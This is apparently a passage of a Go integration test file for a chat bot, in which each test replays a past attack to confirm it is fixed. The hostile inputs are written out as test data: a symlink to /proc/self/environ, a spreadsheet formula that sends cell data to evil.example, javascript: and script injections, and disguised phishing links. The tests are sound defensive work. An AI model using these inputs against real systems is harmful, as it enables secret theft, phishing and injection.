//go:build integration

package main

// The attack catalogue (issue 15): each test replays an attack that once
// worked, against the real parts (the bothy binary or its in-process
// wiring, real SQLite files, the local Slack-protocol server, Dendrite,
// the web server), and fails if the attack works again. Add new findings
// here, one test each, named TestAttack....

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"fmt"
	"html"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	gmhtml "github.com/yuin/goldmark/renderer/html"
	"maunium.net/go/mautrix"
	"maunium.net/go/mautrix/event"
	"maunium.net/go/mautrix/id"

	"github.com/bothy-chat/bothy/adapters/matrix/dendritetest"
	"github.com/bothy-chat/bothy/adapters/slack/slacktest"
	"github.com/bothy-chat/bothy/internal/testenv"
	"github.com/bothy-chat/bothy/knowledge/llm/llmtest"
)

// freeAddr returns a loopback address nothing listens on yet.
func freeAddr(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := ln.Addr().String()
	ln.Close()
	return addr
}

// noRedirects is an HTTP client that shows redirects instead of following
// them, so a test can read the Set-Cookie on a 303.
var noRedirects = &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}

// TestAttackTokenCookieOverPlainHTTP: behind a TLS proxy Bothy speaks plain
// HTTP, and the page-token cookie was Secure only when Bothy served TLS
// itself, so a browser would send the token over any http:// link to the
// same host. With web.public_url on https the cookie must be Secure.
func TestAttackTokenCookieOverPlainHTTP(t *testing.T) {
	const token = "attack-page-token-9d2f71"
	addr := freeAddr(t)
	vars := map[string]string{
		"BOTHY_HTTP_LISTEN":     addr,
		"BOTHY_HTTP_PAGE":       "token",
		"BOTHY_HTTP_PAGE_TOKEN": token,
		"BOTHY_WEB_PUBLIC_URL":  "https://bothy.example.org",
	}
	stop, _ := opsStartBot(t, vars, "--db", filepath.Join(t.TempDir(), "bothy.db"))
	defer stop()

	// What the proxy forwards: the browser opened the https link.
	req, err := http.NewRequest(http.MethodGet, "http://"+addr+"/?token="+token, nil)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("X-Forwarded-Proto", "https")
	resp, err := noRedirects.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	var cookie *http.Cookie
	for _, c := range resp.Cookies() {
		if c.Value == token {
			cookie = c
		}
	}
	if cookie == nil {
		t.Fatalf("no token cookie set (status %d, Set-Cookie %q)", resp.StatusCode, resp.Header.Values("Set-Cookie"))
	}
	// Lax, not Strict: the shared link is clicked in chat or email, and
	// a Strict cookie is not sent on the redirect after a click from
	// another site; the page only reads.
	if !cookie.Secure || !cookie.HttpOnly || cookie.SameSite != http.SameSiteLaxMode {
		t.Errorf("token cookie %q: want Secure, HttpOnly and SameSite=Lax behind an https public URL", strings.Join(resp.Header.Values("Set-Cookie"), "; "))
	}
}

// TestAttackMatrixOrganiserByOwnRoom (15.1): a member is admin (power 100)
// of any room they create and of the direct chat they open with the bot.
// The power-level rule used to be read in the room a command was typed
// in, so `kb gaps` in their DM listed everyone's questions and `meetup
// add` in a room of their own was announced community-wide. Organiser
// rights must come only from `organisers` or from power level in the
// organiser rooms (by default the announcement rooms), read there.
func TestAttackMatrixOrganiserByOwnRoom(t *testing.T) {
	f := dendritetest.NewFixture(t, dendritetest.FixtureOptions{JoinBot: true})
	dir := t.TempDir()
	db := filepath.Join(dir, "bothy.db")
	vars := f.Env()
	vars["BOTHY_DB"] = db
	// Announcements (and so organiser power) in the plain room only, so
	// the test needs no encryption.
	vars["BOTHY_MATRIX_ANNOUNCE"] = string(f.Plain)
	// A moderator of the announcement room who is not in `organisers`.
	mod := f.Server.Register(t, "moddy")
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	if _, err := f.Server.Client(t, f.Organiser).InviteUser(ctx, f.Plain, &mautrix.ReqInviteUser{UserID: mod.ID}); err != nil {
		t.Fatal(err)
	}
	if _, err := f.Server.Client(t, mod).JoinRoomByID(ctx, f.Plain); err != nil {
		t.Fatal(err)
	}
	org := f.Server.Client(t, f.Organiser)
	pl := &event.PowerLevelsEventContent{}
	if err := org.StateEvent(ctx, f.Plain, event.StatePowerLevels, "", pl); err != nil {
		t.Fatal(err)
	}
	pl.SetUserLevel(mod.ID, 50)
	if _, err := org.SendStateEvent(ctx, f.Plain, event.StatePowerLevels, "", pl); err != nil {
		t.Fatal(err)
	}

	member := f.Server.NewPerson(t, f.Member)
	member.Start()
	moderator := f.Server.NewPerson(t, mod)
	moderator.Start()
	botID := f.Bot.ID
	b := startBothy(t, "bothy", dir, vars)
	b.waitLog(t, "connected to the homeserver", 1)

	// ownRoom is a room p creates and invites the bot to; the bot accepts
	// (same server) and p is its admin.
	ownRoom := func(p *dendritetest.Person) id.RoomID {
		resp, err := p.Client.CreateRoom(ctx, &mautrix.ReqCreateRoom{Preset: "private_chat", Invite: []id.UserID{botID}})
		if err != nil {
			t.Fatal(err)
		}
		eventually(t, e2eWait, "the bot joins "+string(p.User.ID)+"'s room", func() bool {
			m := &event.MemberEventContent{}
			err := p.Client.StateEvent(ctx, resp.RoomID, event.StateMember, string(botID), m)
			return err == nil && m.Membership == event.MembershipJoin
		})
		return resp.RoomID
	}
	refused := func(p *dendritetest.Person, room id.RoomID, command string) {
		t.Helper()
		q := p.Say(t, room, command)
		e := p.WaitFor(t, e2eWait, "the reply to "+command, answerTo(botID, q))
		if body := dendritetest.Body(e); !strings.Contains(body, "only organisers can use") {
			t.Errorf("%s in a room the member made: got %q, want a refusal", command, body)
		}
	}

	mine := ownRoom(member)
	refused(member, mine, "!meetup add Free pizza on "+meetupDate()+" at my flat")
	refused(member, f.Direct, "!kb gaps")
	refused(member, mine, "!awards open Best member")
	if ms := meetupList(t, dir, db); len(ms) != 0 {
		t.Errorf("the member's meetup was created: %+v", ms)
	}

	// The announcement room's moderator keeps organiser rights wherever
	// they type, their own new room included.
	theirs := ownRoom(moderator)
	q := moderator.Say(t, theirs, "!meetup add Moderators' social on "+meetupDate()+" at The Lighthouse")
	e := moderator.WaitFor(t, e2eWait, "the moderator's meetup confirmation", answerTo(botID, q))
	if body := dendritetest.Body(e); strings.Contains(body, "only organisers") {
		t.Errorf("a moderator of the announcement room was refused: %q", body)
	}
	if ms := meetupList(t, dir, db); len(ms) != 1 || ms[0].Title != "Moderators' social" {
		t.Errorf("meetups = %+v, want the moderator's one", ms)
	}
	b.stop(t)
}

// startConsoleBot runs the bothy binary (its own process, so its own
// environment) on the console with stdin held open, configured by vars,
// and waits until the HTTP server at addr answers.
func startConsoleBot(t *testing.T, dir, addr string, vars map[string]string) *bothyProc {
	t.Helper()
	cmd := exec.Command(bothyBin, "run")
	cmd.Dir = dir
	cmd.Env = envList(dir, vars)
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	p := &bothyProc{name: "bothy", cmd: cmd, log: &testenv.Buffer{}, done: make(chan struct{})}
	cmd.Stdout, cmd.Stderr = p.log, p.log
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() { p.err = cmd.Wait(); close(p.done) }()
	t.Cleanup(func() {
		stdin.Close()
		p.kill()
		if t.Failed() {
			t.Logf("bothy output (last lines):\n%s", lastLines(p.log.String(), 60))
		}
	})
	eventually(t, e2eWait, "the bot's HTTP server answers", func() bool {
		select {
		case <-p.done:
			t.Fatalf("bothy exited early (%v):\n%s", p.err, lastLines(p.log.String(), 40))
		default:
		}
		resp, err := http.Get("http://" + addr + "/readyz")
		if err != nil {
			return false
		}
		resp.Body.Close()
		return resp.StatusCode == http.StatusOK
	})
	return p
}

// TestAttackKnowledgeSymlinks: a symlink in a knowledge folder to
// /proc/self/environ put the running bot's environment (page token, LLM
// key, chat tokens) into the index and /search returned it; a link to
// /dev/zero filled memory and a FIFO hung `kb ingest` past SIGTERM. Only
// regular files inside the folder may be indexed, and ingest goes on.
func TestAttackKnowledgeSymlinks(t *testing.T) {
	dir := t.TempDir()
	kb := filepath.Join(dir, "kb")
	if err := os.MkdirAll(kb, 0o755); err != nil {
		t.Fatal(err)
	}
	good := "---\nid: gritting\ntitle: Gritting routes\nkind: guidance\n---\n# Gritting routes\n\nPost the gritting routes map before the first frost.\n"
	if err := os.WriteFile(filepath.Join(kb, "gritting.md"), []byte(good), 0o644); err != nil {
		t.Fatal(err)
	}
	for name, target := range map[string]string{"env.md": "/proc/self/environ", "zero.md": "/dev/zero"} {
		if err := os.Symlink(target, filepath.Join(kb, name)); err != nil {
			t.Fatal(err)
		}
	}
	if err := syscall.Mkfifo(filepath.Join(kb, "pipe.md"), 0o644); err != nil {
		t.Fatal(err)
	}
	refused := func(out string) {
		t.Helper()
		for _, name := range []string{"env.md", "pipe.md", "zero.md"} {
			want := filepath.Join(kb, name) + ": not a regular file inside the knowledge folder"
			if !strings.Contains(out, want) {
				t.Errorf("output lacks %q:\n%s", want, out)
			}
		}
	}

	// kb ingest finishes, says what it refused, indexes the rest.
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, bothyBin, "kb", "ingest", "--db", filepath.Join(dir, "cli.db"), kb)
	cmd.Dir = dir
	cmd.Env = envList(dir, map[string]string{"BOTHY_LLM_API_KEY": "sk-attack-cli-key"})
	out, err := cmd.CombinedOutput()
	if ctx.Err() != nil {
		t.Fatalf("kb ingest hung on the FIFO:\n%s", out)
	}
	if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 1 {
		t.Errorf("kb ingest: %v, want exit 1 for the refused files", err)
	}
	refused(string(out))
	if !strings.Contains(string(out), "added 1") {
		t.Errorf("kb ingest did not index the good file:\n%s", out)
	}

	// The running bot, watching the folder, never serves its secrets.
	const token = "zebraquokkapagetoken"
	addr := freeAddr(t)
	bot := startConsoleBot(t, dir, addr, map[string]string{
		"BOTHY_DB":              filepath.Join(dir, "bothy.db"),
		"BOTHY_KNOWLEDGE_DIRS":  kb,
		"BOTHY_HTTP_LISTEN":     addr,
		"BOTHY_HTTP_PAGE":       "token",
		"BOTHY_HTTP_PAGE_TOKEN": token,
		"BOTHY_LLM_API_KEY":     "sk-attack-run-key",
	})
	for _, q := range []string{token, "BOTHY_HTTP_PAGE_TOKEN", "sk-attack-run-key", "gritting routes"} {
		req, _ := http.NewRequest(http.MethodGet, "http://"+addr+"/search?q="+url.QueryEscape(q), nil)
		req.Header.Set("Authorization", "Bearer "+token)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		// The page repeats the query itself; anything else is a leak.
		page := strings.ReplaceAll(strings.ReplaceAll(string(body), url.QueryEscape(q), ""), q, "")
		for _, secret := range []string{token, "sk-attack-run-key", "BOTHY_HTTP_PAGE_TOKEN"} {
			if strings.Contains(page, secret) {
				t.Errorf("/search?q=%s shows %q from the bot's environment", q, secret)
			}
		}
		if q == "gritting routes" && !strings.Contains(page, "Gritting routes") {
			t.Errorf("/search no longer finds the good document:\n%s", page)
		}
	}
	refused(bot.log.String())
}

// slackHostile is what a member can type on Slack (as Slack delivers it)
// hoping Bothy repeats it somewhere that pings or links: @channel, @here,
// a person, a user group, and links with a label that hides the address.
const slackHostile = "<!channel> <!here> <!everyone> <@U0ADMIN01> <!subteam^S0TEAM> " +
	"[login](https://evil.example/login) <https://evil.example/sso|Sign in> [js](javascript:alert(2))"

// checkSlackPayloads fails on any field of any message Bothy sent that
// Slack would turn into a ping of a group or of someone the member named,
// or into a link whose label hides an evil.example address.
func checkSlackPayloads(t *testing.T, srv *slacktest.Server) {
	t.Helper()
	markup := regexp.MustCompile(`<[^>]*>`)
	for _, c := range srv.Calls("") {
		switch c.Method {
		case "chat.postMessage", "chat.update", "chat.postEphemeral", "response_url":
		default:
			continue
		}
		for key, values := range c.Params {
			for _, v := range values {
				for _, m := range markup.FindAllString(v, -1) {
					switch {
					case strings.HasPrefix(m, "<!"), strings.HasPrefix(m, "<@U0ADMIN01"), strings.HasPrefix(m, "<#"):
						t.Errorf("%s %s pings with %q:\n%s", c.Method, key, m, v)
					case strings.Contains(m, "evil.example") && strings.Contains(m, "|"):
						t.Errorf("%s %s has a labelled link %q:\n%s", c.Method, key, m, v)
					case strings.Contains(m, "javascript:"):
						t.Errorf("%s %s links %q:\n%s", c.Method, key, m, v)
					}
				}
			}
		}
	}
}

// TestAttackSlackNotificationText (15.3, 15.4): a member's @channel and
// labelled links travel from a question into a gap, from the gap into
// an FAQ title, and from there into the sources of the next answer, which
// has buttons: its `text` field went out unescaped and pinged the whole
// channel. A shout-out reason reaches the acknowledgement and the
// recipient's notice the same way. No field of any payload may ping or
// carry a labelled member link.
func TestAttackSlackNotificationText(t *testing.T) {
	const (
		organiserID = "U0ORGANISE"
		memberID    = "U0MEMBER01"
		carolID     = "U0CAROL001"
		general     = "C0GENERAL1"
		memberDM    = "D0MEMBER01"
		orgDM       = "D0ORGANISE"
	)
	srv := slacktest.New(slacktest.Options{PingInterval: 500 * time.Millisecond})
	t.Cleanup(srv.Close)
	srv.AddUser(slacktest.User{ID: organiserID, Name: "olive", RealName: "Olive Organiser", DisplayName: "Olive"})
	srv.AddUser(slacktest.User{ID: memberID, Name: "mo", RealName: "Mo Member", DisplayName: "Mo"})
	srv.AddUser(slacktest.User{ID: carolID, Name: "carol", RealName: "Carol Comms", DisplayName: "Carol"})
	srv.AddChannel(general, "general")

	dir := t.TempDir()
	kb := filepath.Join(dir, "kb")
	if err := os.MkdirAll(kb, 0o755); err != nil {
		t.Fatal(err)
	}
	doc := "---\nid: captions\ntitle: Captions on video\nkind: guidance\n---\n# Captions on video\n\nEvery video we post carries open captions.\n"
	if err := os.WriteFile(filepath.Join(kb, "captions.md"), []byte(doc), 0o644); err != nil {
		t.Fatal(err)
	}
	db := filepath.Join(dir, "bothy.db")
	b := startBothy(t, "bothy", dir, map[string]string{
		"SLACK_APP_TOKEN":      slacktest.AppToken,
		"SLACK_BOT_TOKEN":      slacktest.BotToken,
		"BOTHY_SLACK_API_URL":  srv.APIURL,
		"BOTHY_ORGANISERS":     organiserID,
		"BOTHY_DB":             db,
		"BOTHY_KNOWLEDGE_DIRS": kb,
	})
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	if err := srv.WaitConnected(ctx, 1); err != nil {
		t.Fatalf("no Socket Mode connection: %v", err)
	}
	send := ack(t, ctx, srv)
	ts := 0
	say := func(user, channel, text string) string {
		ts++
		stamp := fmt.Sprintf("1790000%03d.000100", ts)
		send(srv.SendEvent(fmt.Sprintf("EvAttack%03d", ts), slacktest.DirectMessage(user, channel, stamp, text)))
		return stamp
	}

	// The member's question is not covered, so it becomes a gap.
	question := "where should we park the zanzibarquokka lorry overnight " + slackHostile
	say(memberID, memberDM, question)
	var gap int64
	eventually(t, e2eWait, "the question is recorded as a gap", func() bool {
		queryDB(t, db, "SELECT id FROM kb_questions WHERE answered = 0 AND text LIKE 'where should we park%'", func(r *sql.Rows) error { return r.Scan(&gap) })
		return gap > 0
	})
	// The organiser lists the gaps and answers this one.
	say(organiserID, orgDM, "kb gaps")
	waitPost(t, ctx, srv, "the gap list", func(p url.Values) bool {
		return p.Get("channel") == orgDM && strings.Contains(p.Get("text"), "zanzibarquokka")
	})
	say(organiserID, orgDM, fmt.Sprintf("kb answer %d Park it in the depot yard on Mill Road, never on the street.", gap))
	// The reply comes once the FAQ is written and indexed.
	waitPost(t, ctx, srv, "the FAQ confirmation", func(p url.Values) bool {
		return p.Get("channel") == orgDM && strings.Contains(p.Get("text"), "indexed")
	})
	// The next member's question is answered from that FAQ, with sources
	// (titled by the first question) and buttons.
	say(carolID, "D0CAROL001", "where should we park the zanzibarquokka lorry overnight")
	ans := waitPost(t, ctx, srv, "the answer from the FAQ", func(p url.Values) bool {
		return p.Get("channel") == "D0CAROL001" && strings.Contains(p.Get("blocks"), "bothy_sources")
	})
	if !strings.Contains(ans.Get("text"), "Mill Road") {
		t.Errorf("the answer did not come from the FAQ: %q", ans.Get("text"))
	}

	// A shout-out whose reason carries the same text.
	say(memberID, memberDM, "shoutout <@"+carolID+"> for the gritting map "+slackHostile)
	waitPost(t, ctx, srv, "the shout-out acknowledgement", func(p url.Values) bool {
		return p.Get("channel") == memberDM && strings.Contains(p.Get("text"), "Carol")
	})
	var notice string
	eventually(t, e2eWait, "carol's notice", func() bool {
		for _, c := range srv.Successful("chat.postMessage") {
			if c.Params.Get("channel") != memberDM && c.Params.Get("channel") != general && strings.Contains(c.Params.Get("text"), "gritting map") {
				notice = c.Params.Get("text")
				return true
			}
		}
		return false
	})
	// 15.11: the giver is named, not shown by user ID.
	if !strings.Contains(notice, "from Mo") || strings.Contains(notice, memberID) {
		t.Errorf("carol's notice does not name the giver: %q", notice)
	}
	b.stop(t)
	checkSlackPayloads(t, srv)
}

// checkMatrixLinks fails on any message from the bot whose HTML links a
// scheme other than http, https or mailto, or shows a link under a label
// other than its own address (sources, from curated front matter, aside).
func checkMatrixLinks(t *testing.T, botID id.UserID, people ...*dendritetest.Person) int {
	t.Helper()
	anchor := regexp.MustCompile(`<a href="([^"]*)">(.*?)</a>`)
	n := 0
	for _, p := range people {
		for _, e := range p.Events(func(e *event.Event) bool { return e.Sender == botID }) {
			m := dendritetest.Message(e)
			if m == nil || m.FormattedBody == "" {
				continue
			}
			n++
			h := m.FormattedBody
			if strings.Contains(strings.ToLower(h), "javascript:") && strings.Contains(strings.ToLower(h), `href="javascript`) {
				t.Errorf("a javascript: link reached %s: %s", p.User.ID, h)
			}
			for _, a := range anchor.FindAllStringSubmatch(h, -1) {
				href, text := html.UnescapeString(a[1]), html.UnescapeString(a[2])
				if strings.Contains(href, "evil.example") && text != href {
					t.Errorf("a member's labelled link %q -> %q reached %s: %s", text, href, p.User.ID, h)
				}
				if !strings.HasPrefix(href, "https://") && !strings.HasPrefix(href, "http://") && !strings.HasPrefix(href, "mailto:") {
					t.Errorf("link to %q reached %s: %s", href, p.User.ID, h)
				}
			}
		}
	}
	return n
}

// TestAttackMatrixMemberLinks (15.4): a member's [js](javascript:alert(2))
// became <a href="javascript:..."> in formatted_body, and
// [login](https://evil.example/login) a live labelled link, in
// acknowledgements, the recipient's notice and `kb gaps`. Member text is
// shown as text: a link shows its address, and only web and mail
// addresses are links.
func TestAttackMatrixMemberLinks(t *testing.T) {
	f := dendritetest.NewFixture(t, dendritetest.FixtureOptions{JoinBot: true})
	dir := t.TempDir()
	vars := f.Env()
	vars["BOTHY_DB"] = filepath.Join(dir, "bothy.db")
	vars["BOTHY_MATRIX_ANNOUNCE"] = string(f.Plain)
	member := f.Server.NewPerson(t, f.Member)
	member.Start()
	olive := f.Server.NewPerson(t, f.Organiser)
	olive.Start()
	botID := f.Bot.ID
	b := startBothy(t, "bothy", dir, vars)
	b.waitLog(t, "connected to the homeserver", 1)

	const links = "[js](javascript:alert(2)) [login](https://evil.example/login) <javascript:alert(3)> ![x](https://evil.example/t.png)"
	q := member.Say(t, f.Direct, "what flavour of birthday cake does the gritter mascot zanzibarquokka like "+links)
	member.WaitFor(t, e2eWait, "the reply to the question", answerTo(botID, q))
	q = member.Say(t, f.Plain, "!shoutout "+string(f.Organiser.ID)+" for the gritting map "+links+" #crisis-comms")
	member.WaitFor(t, e2eWait, "the shout-out acknowledgement", answerTo(botID, q))
	olive.WaitFor(t, e2eWait, "olive's shout-out notice", func(e *event.Event) bool {
		return e.Sender == botID && strings.Contains(dendritetest.Body(e), "gritting map")
	})
	q = olive.Say(t, f.Plain, "!kb gaps")
	gaps := olive.WaitFor(t, e2eWait, "the gap list", answerTo(botID, q))
	if !strings.Contains(dendritetest.Body(gaps), "gritter") {
		t.Errorf("kb gaps does not list the question: %q", dendritetest.Body(gaps))
	}
	b.stop(t)
	if n := checkMatrixLinks(t, botID, member, olive); n < 3 {
		t.Errorf("only %d HTML messages from the bot were checked", n)
	}
}

// TestAttackExports (15.6): a console member named =HYPERLINK(...) gave a
// shout-out; the CSV export left the ID columns raw, so a spreadsheet ran
// the formula, and the Markdown export passed <script> and labelled links
// through. Every column and field is escaped.
func TestAttackExports(t *testing.T) {
	dir := t.TempDir()
	db := filepath.Join(dir, "bothy.db")
	const giver = `=HYPERLINK("https://evil.example/?leak="&A1,"Open")`
	reason := "the <script>alert(1)</script> storm posts [login](https://evil.example/login) ![t](https://evil.example/t.png)"
	out, errOut, code := runBothy(t, dir, "shoutout @carol for "+reason+"\n", nil, "--db", db, "--as", giver)
	if code != 0 || !strings.Contains(out, "carol") {
		t.Fatalf("shout-out: exit %d\n%s\n%s", code, out, errOut)
	}

	csvOut, errOut, code := runBothy(t, dir, "", nil, "shoutouts", "export", "--db", db, "--format", "csv")
	if code != 0 {
		t.Fatalf("csv export: exit %d: %s", code, errOut)
	}
	rows, err := csv.NewReader(strings.NewReader(csvOut)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("csv export: %v\n%s", err, csvOut)
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("CSV column %s would run as a formula: %q", rows[0][i], cell)
		}
	}

	mdOut, errOut, code := runBothy(t, dir, "", nil, "shoutouts", "export", "--db", db, "--format", "markdown")
	if code != 0 {
		t.Fatalf("markdown export: exit %d: %s", code, errOut)
	}
	var page bytes.Buffer
	md := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(gmhtml.WithUnsafe()))
	if err := md.Convert([]byte(mdOut), &page); err != nil {
		t.Fatal(err)
	}
	for _, bad := range []string{"<script", "<img", ">login</a>"} {
		if strings.Contains(page.String(), bad) {
			t.Errorf("the Markdown export, rendered, contains %q:\n%s", bad, page.String())
		}
	}
}

// TestAttackKBAnswerOverwrites (15.8): an organiser's second `kb answer`
// for the same gap replaced the first answer's file, a gap whose slug
// matched a curated file replaced that file, and the new file was mode
// 0600 in a folder of 0644 documents. Answer files are created
// exclusively, a gap already answered is refused with how to edit it, and
// the file gets the folder's documents' mode.
func TestAttackKBAnswerOverwrites(t *testing.T) {
	dir := t.TempDir()
	kb := filepath.Join(dir, "kb")
	if err := os.MkdirAll(kb, 0o755); err != nil {
		t.Fatal(err)
	}
	// A curated page whose file name is the one kb answer would choose for
	// the first gap (faq-ID-slug of the question).
	curatedPath := filepath.Join(kb, "faq-1-how-do-we-run-a-christmas-card-competition.md")
	const curated = "---\ntitle: Staff rota\n---\n# Staff rota\n\nOur own notes on who covers the evening shift.\n"
	guide := "---\ntitle: Gritting\n---\n# Gritting\n\nGritting routes are posted each evening.\n"
	for path, body := range map[string]string{curatedPath: curated, filepath.Join(kb, "gritting.md"): guide} {
		if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	script := strings.Join([]string{
		"How do we run a Christmas card competition?",
		"Which councillor should judge the school poster contest?",
		"kb answer 2 The provost judges it, never a ward councillor.",
		"kb answer 2 Anyone may judge it.",
		"kb answer 1 Ask schools to enter.",
	}, "\n") + "\n"
	out, errOut, code := runBothy(t, dir, script, []string{"BOTHY_KNOWLEDGE_DIRS=" + kb}, "--organiser")
	if code != 0 {
		t.Fatalf("exit %d:\n%s\n%s", code, out, errOut)
	}

	answers, _ := filepath.Glob(filepath.Join(kb, "faq-2-*.md"))
	if len(answers) != 1 {
		t.Fatalf("answer files for gap 2: %v\n%s", answers, out)
	}
	body, err := os.ReadFile(answers[0])
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(body), "The provost judges it") || strings.Contains(string(body), "Anyone may judge") {
		t.Errorf("the second kb answer replaced the first:\n%s", body)
	}
	if !strings.Contains(out, "Question #2 already has an answer") || !strings.Contains(out, "edit "+answers[0]) {
		t.Errorf("the second kb answer was not refused with how to edit the answer:\n%s", out)
	}
	if info, err := os.Stat(answers[0]); err != nil || info.Mode().Perm() != 0o644 {
		t.Errorf("answer file mode %v (%v), want 0644 like the folder's documents", info.Mode().Perm(), err)
	}

	if got, _ := os.ReadFile(curatedPath); string(got) != curated {
		t.Errorf("kb answer replaced the curated file with the matching name:\n%s", got)
	}
	if !strings.Contains(out, "There is already a document at "+curatedPath) {
		t.Errorf("kb answer over the curated file was not refused:\n%s", out)
	}
	if entries, _ := os.ReadDir(kb); len(entries) != 3 {
		t.Errorf("the folder holds %d entries, want the two pages and one answer", len(entries))
	}
}

// TestAttackDatabaseLockByLink (15.9): the lock followed the path as
// typed. With `bothy --db two.db` running, `--db link.db` (a symbolic or
// a hard link to it) ran alongside, two bots writing one database, and
// `bothy restore --db link.db` replaced the symlink and reported success.
// The lock must be on the database file itself, and restore must refuse a
// path that is a link.
func TestAttackDatabaseLockByLink(t *testing.T) {
	dir := t.TempDir()
	two := filepath.Join(dir, "two.db")
	backup := filepath.Join(dir, "backup.db")
	if _, errOut, code := runBothy(t, dir, "help\n", nil, "--db", two); code != 0 {
		t.Fatalf("first run: %d %s", code, errOut)
	}
	if _, errOut, code := runBothy(t, dir, "", nil, "backup", "--db", two, backup); code != 0 {
		t.Fatalf("backup: %d %s", code, errOut)
	}
	symlink := filepath.Join(dir, "link.db")
	if err := os.Symlink("two.db", symlink); err != nil {
		t.Fatal(err)
	}
	hardlink := filepath.Join(dir, "hard.db")
	if err := os.Link(two, hardlink); err != nil {
		t.Fatal(err)
	}

	addr := freeAddr(t)
	bot := startConsoleBot(t, dir, addr, map[string]string{"BOTHY_DB": two, "BOTHY_HTTP_LISTEN": addr})
	for _, link := range []string{symlink, hardlink} {
		_, errOut, code := runBothy(t, dir, "help\n", nil, "--db", link)
		if code != 1 || !strings.Contains(errOut, "in use") {
			t.Errorf("a second bot on %s ran beside the one on two.db: exit %d %q", filepath.Base(link), code, errOut)
		}
		_, errOut, code = runBothy(t, dir, "", nil, "restore", "--db", link, backup)
		if code != 1 || !strings.Contains(errOut, "refusing to replace") {
			t.Errorf("restore over %s while the bot runs: exit %d %q", filepath.Base(link), code, errOut)
		}
	}
	bot.kill()

	// With no bot running, a link is still no place to restore to.
	for _, link := range []string{symlink, hardlink} {
		_, errOut, code := runBothy(t, dir, "", nil, "restore", "--db", link, backup)
		if code != 1 || !strings.Contains(errOut, "link") {
			t.Errorf("restore over %s: exit %d %q", filepath.Base(link), code, errOut)
		}
	}
	if st, err := os.Lstat(symlink); err != nil || st.Mode()&os.ModeSymlink == 0 {
		t.Errorf("link.db is no longer a symbolic link (%v)", err)
	}
	a, errA := os.Stat(two)
	b, errB := os.Stat(hardlink)
	if errA != nil || errB != nil || !os.SameFile(a, b) {
		t.Errorf("hard.db and two.db are no longer one file")
	}
}

// scanForTraces reads the database file, its WAL and every file under the
// knowledge folders as bytes and reports each needle found, ignoring case
// (the full-text index and the typo vocabulary keep words in lower case).
func scanForTraces(t *testing.T, db string, dirs []string, needles []string) []string {
	t.Helper()
	files := []string{db, db + "-wal", db + "-journal"}
	for _, d := range dirs {
		_ = filepath.WalkDir(d, func(p string, e os.DirEntry, err error) error {
			if err == nil && !e.IsDir() {
				files = append(files, p)
			}
			return nil
		})
	}
	var found []string
	for _, f := range files {
		raw, err := os.ReadFile(f)
		if err != nil {
			continue
		}
		low := bytes.ToLower(append(raw, []byte("\n"+filepath.Base(f))...))
		for _, n := range needles {
			if bytes.Contains(low, []byte(strings.ToLower(n))) {
				found = append(found, fmt.Sprintf("%q in %s", n, filepath.Base(f)))
			}
		}
	}
	return found
}

// TestAttackErasureLeavesTraces (15.7): after `privacy erase`, the member's
// ID, name and question were still in the WAL, in free pages of the main
// file, in audit_log text, in the FAQ written from their question (file,
// index and search) and in a promoted case study naming them. A member
// leaves every kind of trace on Slack; after erasure the database file,
// its WAL and the knowledge folder are searched byte by byte for each
// identifier, and `privacy export` beforehand must show all of it.
func TestAttackErasureLeavesTraces(t *testing.T) {
	const (
		organiserID = "U0ORGANISE"
		memberID    = "U0QUENTIN1"
		carolID     = "U0CAROL001"
		memberDM    = "D0QUENTIN1"
		orgDM       = "D0ORGANISE"
		question    = "where should we park the zanzibarquokka lorry overnight"
		reason      = "the xylophonequokka gritting map that saved our Tuesday"
		nomination  = "the vibraphonequokka explainer was superb"
	)
	srv := slacktest.New(slacktest.Options{PingInterval: 500 * time.Millisecond})
	t.Cleanup(srv.Close)
	srv.AddUser(slacktest.User{ID: organiserID, Name: "olive", RealName: "Olive Organiser", DisplayName: "Olive"})
	srv.AddUser(slacktest.User{ID: memberID, Name: "quentin", RealName: "Quentin Quokkafield", DisplayName: "Quentin Quokkafield"})
	srv.AddUser(slacktest.User{ID: carolID, Name: "carol", RealName: "Carol Comms", DisplayName: "Carol"})

	dir := t.TempDir()
	kb := filepath.Join(dir, "kb")
	if err := os.MkdirAll(kb, 0o755); err != nil {
		t.Fatal(err)
	}
	doc := "---\nid: captions\ntitle: Captions on video\nkind: guidance\n---\n# Captions on video\n\nEvery video we post carries open captions, burned in.\n"
	if err := os.WriteFile(filepath.Join(kb, "captions.md"), []byte(doc), 0o644); err != nil {
		t.Fatal(err)
	}
	db := filepath.Join(dir, "bothy.db")
	vars := map[string]string{
		"SLACK_APP_TOKEN":             slacktest.AppToken,
		"SLACK_BOT_TOKEN":             slacktest.BotToken,
		"BOTHY_SLACK_API_URL":         srv.APIURL,
		"BOTHY_ORGANISERS":            organiserID,
		"BOTHY_DB":                    db,
		"BOTHY_KNOWLEDGE_DIRS":        kb,
		"BOTHY_SHOUTOUTS_DAILY_QUOTA": "0",
	}
	b := startBothy(t, "bothy", dir, vars)
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
